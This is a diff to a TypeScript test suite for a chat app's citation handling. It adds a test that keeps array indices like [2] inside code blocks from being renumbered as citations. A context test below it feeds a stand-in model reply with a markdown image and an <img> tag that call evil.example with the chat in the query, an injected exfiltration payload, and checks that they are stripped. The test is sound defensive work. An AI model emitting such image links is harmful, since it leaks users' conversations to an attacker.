@@ -137,6 +137,16 @@ describe.each(['chat', 'responses'] as const)('CHAT_MODEL=openai:* over the %s A
     ]);
   });
 
+  it('leaves [n] in the model’s code as it is: an index, not a citation', async () => {
+    await addSource(`Kettle ${tag} extra`, [`The kettle ${tag} has a limescale filter behind the spout.`]);
+    const code = '```js\nconst second = kettles[2]; // [1]\n```';
+    standin.options = { reply: `Read \`kettles[2]\` [2]:\n\n${code}\n\nIt boils fast [1].` };
+    const id = await newConversation(key);
+    const { message } = await readReply(await send(key, id, { content: `kettle ${tag} filter and boiling` }));
+    expect(textOf(message)).toBe(`Read \`kettles[2]\` [1]:\n\n${code}\n\nIt boils fast [2].`);
+    expect(message.parts.filter((p) => p.type === 'data-citation')).toHaveLength(2);
+  });
+
   it('strips images from the model’s output even if a source talked it into one (checklist 32)', async () => {
     standin.options = { reply: 'Descale monthly [1]. ![x](https://evil.example/?q=your+chat) <img src="https://evil.example/p.png"> Done.' };
     const id = await newConversation(key);
